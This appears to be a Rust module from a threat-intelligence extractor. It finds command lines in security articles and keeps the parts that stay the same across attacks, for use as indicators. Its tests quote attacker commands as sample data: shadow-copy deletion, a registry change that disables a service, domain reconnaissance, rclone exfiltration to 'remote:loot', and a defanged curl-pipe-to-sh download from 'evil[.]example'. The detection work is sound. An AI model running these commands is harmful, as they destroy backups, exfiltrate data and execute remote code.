//! The command lines that an article prints, cut to the part that is the same on every machine.

use std::sync::OnceLock;

use serde::Deserialize;

use super::{Value, value_filter::admit};
use crate::{
    article::{BlockKind, Document},
    indicator::Kind,
    text::{Evidence, Span},
};

/// As many command lines are taken from one article.
const MAX_COMMANDS: usize = 20;
/// A longer part of a command line is an encoded payload, different in the next attack.
const MAX_PART_BYTES: usize = 160;

/// A longer line is a page without line breaks.
const LONGEST_LINE: usize = 2_000;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Commands {
    programs: Vec<String>,
}

/// Returns `true` if a name, without `.exe`, is that of a program worth looking for, in any case.
fn is_program(name: &str) -> bool {
    static SHIPPED: OnceLock<Vec<String>> = OnceLock::new();
    let programs = SHIPPED.get_or_init(|| {
        let Commands { mut programs } =
            toml::from_str(include_str!("../../assets/commands.toml")).expect("a test reads the shipped commands.toml");
        programs.sort_unstable();
        programs
    });
    let name = || name.bytes().map(|byte| byte.to_ascii_lowercase());
    programs.binary_search_by(|known| known.bytes().cmp(name())).is_ok()
}

/// Finds the command lines of an article, each once, in the order of the text.
pub(super) fn lines(document: &Document) -> Vec<(Value, Evidence)> {
    let mut found: Vec<(Value, Evidence)> = Vec::new();
    for (block, text) in document.readable() {
        let code = block.kind == BlockKind::Code;
        for piece in pieces(text) {
            let span = Span::new(block.span.start + piece.span.start, block.span.start + piece.span.end);
            let line = &document.text[span.range()];
            let Some(part) = part(line, code || piece.quoted) else { continue };
            let value = Value { kind: Kind::CommandLine, value: part.to_owned() };
            if found.iter().all(|(known, _)| *known != value) {
                found.push((value, Evidence::in_text(&document.text, span)));
            }
            if found.len() == MAX_COMMANDS {
                return found;
            }
        }
    }
    found
}

struct Piece {
    span: Span,
    /// Whether it stands in quotes or backticks.
    quoted: bool,
}

/// Cuts a block into its lines and table cells, and what stands in quotes on them.
fn pieces(text: &str) -> Vec<Piece> {
    let mut out = Vec::new();
    let mut start = 0;
    let ends = memchr::memchr2_iter(b'\n', b'\t', text.as_bytes()).chain([text.len()]);
    for end in ends {
        let line = &text[start..end];
        if line.len() > LONGEST_LINE {
            start += line.len() + 1;
            continue;
        }
        out.push(Piece { span: Span::new(start, start + line.len()), quoted: false });
        // The first byte of a typographic quotation mark, and the two others: most lines have none.
        let quotes = memchr::memchr3(0xe2, b'`', b'"', line.as_bytes()).is_some();
        for (open, close) in [('`', '`'), ('\u{201c}', '\u{201d}'), ('"', '"')].into_iter().filter(|_| quotes) {
            let mut at = 0;
            while let Some(begin) = line[at..].find(open).map(|begin| at + begin + open.len_utf8()) {
                let Some(end) = line[begin..].find(close).map(|end| begin + end) else { break };
                out.push(Piece { span: Span::new(start + begin, start + end), quoted: true });
                at = end + close.len_utf8();
            }
        }
        start += line.len() + 1;
    }
    out
}

/// Returns the longest part of the arguments that every run of the command has; none where this is no command.
fn part(line: &str, marked: bool) -> Option<&str> {
    let line = without_prompt(line.trim());
    let (program, arguments) = line.split_once(' ')?;
    let name = program.trim_matches('"').rsplit(['\\', '/']).next()?;
    let stem = name.len().checked_sub(4).filter(|stem| name.as_bytes()[*stem..].eq_ignore_ascii_case(b".exe"));
    if !is_program(stem.map_or(name, |stem| &name[..stem])) || !(marked || has_switch(arguments)) {
        return None;
    }
    arguments
        .split(varies)
        .map(str::trim)
        .filter(|run| run.len() <= MAX_PART_BYTES)
        .filter(|run| run.contains(' ') && !run.contains("hxxp") && admit(Kind::CommandLine, run).is_some())
        .max_by_key(|run| run.len())
}

/// Returns `true` if a character stands where a command differs from run to run, or does not belong to it.
fn varies(c: char) -> bool {
    let quote = matches!(c, '"' | '\'' | '`' | '\u{201c}' | '\u{201d}');
    let special = matches!(c, '*' | '?' | '$' | '<' | '>' | '|' | '&' | ';' | '%' | '{' | '}' | '[' | ']' | '^');
    quote || special || c == '\u{a0}' || c.is_control()
}

/// Cuts the prompt of a shell: `$ `, `# `, `> `, `C:\>`, `PS C:\>`.
fn without_prompt(line: &str) -> &str {
    let prompt = line.bytes().take(40).position(|byte| matches!(byte, b'>' | b'$' | b'#'));
    match prompt {
        Some(0) => line[1..].trim_start(),
        Some(at) if line.starts_with("PS ") || line.get(1..).is_some_and(|rest| rest.starts_with(":\\")) => {
            line[at + 1..].trim_start()
        }
        _ => line,
    }
}

/// Returns `true` if the words are arguments of a program, not the rest of a sentence about it.
fn has_switch(arguments: &str) -> bool {
    let is_switch =
        |word: &[u8]| matches!(word, [b'-' | b'/', next, ..] if next.is_ascii_alphanumeric() || *next == b'-');
    is_switch(arguments.as_bytes())
        || arguments.as_bytes().windows(3).any(|window| window[0] == b' ' && is_switch(&window[1..]))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::{any, proptest};

    use super::{Document, lines};

    fn found(text: &str) -> Vec<String> {
        lines(&Document::from_plain(text)).into_iter().map(|(value, _)| value.value).collect()
    }

    #[test]
    fn a_command_gives_the_part_that_does_not_vary() {
        for (text, part) in [
            ("vssadmin.exe delete shadows /all /quiet", "delete shadows /all /quiet"),
            (r"C:\Windows\System32\cmd.exe /c net user /domain", "/c net user /domain"),
            (r"PS C:\> rclone copy --max-age 2y C:\Shares remote:loot", r"copy --max-age 2y C:\Shares remote:loot"),
            ("The attacker ran `nltest /domain_trusts /all_trusts` next.", "/domain_trusts /all_trusts"),
            (r#"reg add "HKLM\System\X" /v Start /t REG_DWORD /d 4"#, "/v Start /t REG_DWORD /d 4"),
            ("$ curl -fsSL hxxp://evil[.]example/x | sh -s -- --quiet", "sh -s -- --quiet"),
        ] {
            assert_eq!(found(text), [part], "{text}");
        }
    }

    #[test]
    fn prose_is_no_command() {
        for text in [
            "Net user accounts were created on the host.",
            "curl is a tool for transferring data - and more.",
            "powershell",
            "whoami /all",
            "PowerShell was used in \u{201c}net new\u{201d} ways",
        ] {
            assert_eq!(found(text), [] as [&str; 0], "{text}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read(text in any::<String>()) {
            found(&text);
        }

        #[test]
        fn any_command_is_read(text in r#"(cmd|PS C:\\>|\$ )( ?[`"“”\-/a-c€ \t\n]{0,9})"#) {
            found(&text);
        }
    }
}
